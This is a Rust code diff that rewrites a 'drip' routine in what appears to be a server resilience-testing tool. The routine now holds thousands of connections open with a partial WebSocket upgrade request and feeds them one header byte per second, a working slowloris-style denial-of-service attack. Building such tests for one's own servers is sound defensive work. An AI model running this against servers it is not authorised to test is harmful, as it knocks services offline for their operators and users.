@@ -26,18 +26,20 @@ pub const ATTACKS: &[Attack] = &[
 fn drip(field: &Field) -> Outcome<Findings> {
     let mut findings = Findings::default();
     let mut crowd = Crowd::new(field.web)?;
-    let bytes: Vec<Rc<[u8]>> = UPGRADE.chunks(1).map(Rc::from).collect();
+    // Whoever comes in the place of one who was cut begins anew, while all others are in the midst
+    // of a header: so each byte must be one that may come anywhere in it.
+    let first: Rc<[u8]> = Rc::from(&b"GET /socket/websocket HTTP/1.1\r\nHost: a\r\nX-Drip: "[..]);
+    let byte: Rc<[u8]> = Rc::from(&b"x"[..]);
     let count = field.many(10_000);
-    crowd.gather(count, Ears::Keep(512), None, |_| Rc::clone(&bytes[0]))?;
-    let (end, mut second) = (Instant::now() + field.long(15).max(Duration::from_secs(8)), 0);
+    crowd.gather(count, Ears::Keep(512), None, |_| Rc::clone(&first))?;
+    let end = Instant::now() + field.long(15).max(Duration::from_secs(8));
     let mut next = Instant::now();
     while Instant::now() < end {
-        second += 1;
-        crowd.say_all(&bytes[second % bytes.len()]);
+        crowd.say_all(&byte);
         next += Duration::from_secs(1);
         crowd.pump(next.saturating_duration_since(Instant::now()))?;
         let missing = count - crowd.open();
-        crowd.gather(missing, Ears::Keep(512), None, |_| Rc::clone(&bytes[0]))?;
+        crowd.gather(missing, Ears::Keep(512), None, |_| Rc::clone(&first))?;
     }
     let ended: Vec<_> = crowd
         .members
